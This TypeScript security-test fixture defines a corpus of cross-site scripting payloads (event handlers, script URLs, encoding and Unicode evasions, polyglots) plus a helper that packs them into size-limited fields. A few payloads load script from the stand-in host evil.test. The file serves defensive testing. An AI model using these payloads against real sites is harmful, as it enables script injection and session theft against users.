// The cross-site scripting corpus: strings that would run a script if any page, feed or structured
// data block let them become markup. No imports, so the end-to-end specs (through xss-payloads.ts)
// and the integration tests (tests/security/) share the one list. Each payload tries one of: alert()
// (caught as a dialog), setting window.__xss or logging "__xss" (caught by the marker and console
// hooks of xss-payloads.ts), or loading script from evil.test. docs/security.md, "XSS corpus".

/** Every payload, in a fixed order (the first ten are the ones comments.spec.ts looks for by name). */
export const XSS_PAYLOADS: readonly string[] = [
  // ── Tags and event handlers ──
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<body onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  "javascript:alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.test/x.js></script>",
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert`1`>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<isindex action=javascript:alert(1) type=image>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:alert(1)//">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<div style="background:url(javascript:alert(1))">',
  '<div onmouseover="alert(1)">hover</div>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  "<svg/onload=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<script>eval('al'+'ert(1)')</script>",
  "<script>window['alert'](1)</script>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  'https://example.org/"><script>alert(1)</script>',
  "https://example.org/?q=<img src=x onerror=alert(1)>",
  'http://x.test/"onmouseover="alert(1)',
  '<a href="https://example.org" onclick="alert(1)">x</a>',
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "{{constructor.constructor('alert(1)')()}}",
  "</textarea><script>alert(1)</script>",
  "<script>window.__xss=1</script>",
  "<img src=x onerror=window.__xss=1>",
  "<svg onload=window.__xss=1>",
  "<img src=x onerror=console.log('__xss')>",
  "<body onpageshow=alert(1)>",
  "<iframe onload=alert(1)></iframe>",
  "<video src=x onerror=alert(1)></video>",
  "<div onpointerover=alert(1)>point</div>",
  "<img src=x:alert(alt) onerror=eval(src) alt=1>",
  "<svg onload=alert&#40;1&#41;>",
  '<img src=x onerror="&#x61;lert(1)">',
  "<form><button formaction=javascript:alert(1)>go</button></form>",
  "<x onclick=alert(1)>click</x>",
  "<img src onerror=alert(1)>",
  "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
  // ── Script URLs: javascript:, data:, vbscript:, encoded and mixed case ──
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "jav&#x09;ascript:alert(1)",
  "javascript%3Aalert(1)",
  "javascript://%0aalert(1)",
  "vbscript:msgbox(1)",
  'VBScript:MsgBox("xss")',
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "//evil.test/x.js",
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "[click](javascript:alert(1))",
  "<javascript:alert(1)>",
  // ── SVG and MathML ──
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  '<svg><set attributeName="onload" to="alert(1)"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg><image href="x" onerror="alert(1)"/></svg>',
  // ── Breaking out of scripts, CDATA, comments, titles, styles, attributes ──
  "</script><script>alert(1)</script>",
  "</script><img src=x onerror=alert(1)>",
  "</script><script>window.__xss=1</script>",
  '"}</script><script>alert(1)</script>',
  "<!--<script>alert(1)</script>-->",
  "]]><script>alert(1)</script>",
  "]]></title><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "--><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><img src=x onerror=alert(1)>",
  "</template><script>alert(1)</script>",
  "</option></select><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus="alert(1)',
  'x" onerror="alert(1)',
  '"><svg onload=alert(1)>',
  "' ><img src=x onerror=alert(1)>",
  "` onmouseover=alert(1) `",
  '" style="background:url(javascript:alert(1))',
  // ── Frames, objects, embeds, styles, templates ──
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<div style="width:expression(alert(1))">',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="//evil.test/">',
  // ── Unicode: escapes, look-alikes, invisible characters, line separators ──
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
  "＜script＞alert(1)＜/script＞",
  "\uFEFF<script>alert(1)</script>",
  "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
  "\u2028<script>alert(1)</script>\u2029",
  "a\u2028b\u2029c</script><script>alert(1)</script>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  // ── Polyglots and template syntax ──
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  "'\"--></style></script><script>alert(1)</script>",
  "'\"><img src=x onerror=alert(1)>{{7*7}}${7*7}<%= 7*7 %>",
  '"><svg/onload=alert(1)>"><iframe/src=javascript:alert(1)>',
  "${alert(1)}",
  "<%= alert(1) %>",
];

/**
 * The payloads packed into texts of at most `limit` characters, joined by `separator`, in order:
 * what a field of that size can carry. A payload longer than the limit is cut to it (a cut tag is
 * still hostile).
 */
/**
 * The payloads a one-line field can hold: lib/validation/text.ts refuses a tab or a line break in
 * a headline, a name or a caption (a defence of its own, tested there), so they are left out of
 * one-line fields here and still go through every multi-line one.
 */
export const ONE_LINE_XSS_PAYLOADS: readonly string[] = XSS_PAYLOADS.filter((payload) => !/[\t\n\r]/.test(payload));

export function packPayloads(limit: number, separator = " ", payloads: readonly string[] = XSS_PAYLOADS): string[] {
  const packed: string[] = [];
  let current = "";
  for (const payload of payloads) {
    const piece = [...payload].slice(0, limit).join("");
    if (current === "") current = piece;
    else if ([...current].length + separator.length + [...piece].length <= limit) current += separator + piece;
    else {
      packed.push(current);
      current = piece;
    }
  }
  if (current !== "") packed.push(current);
  return packed;
}
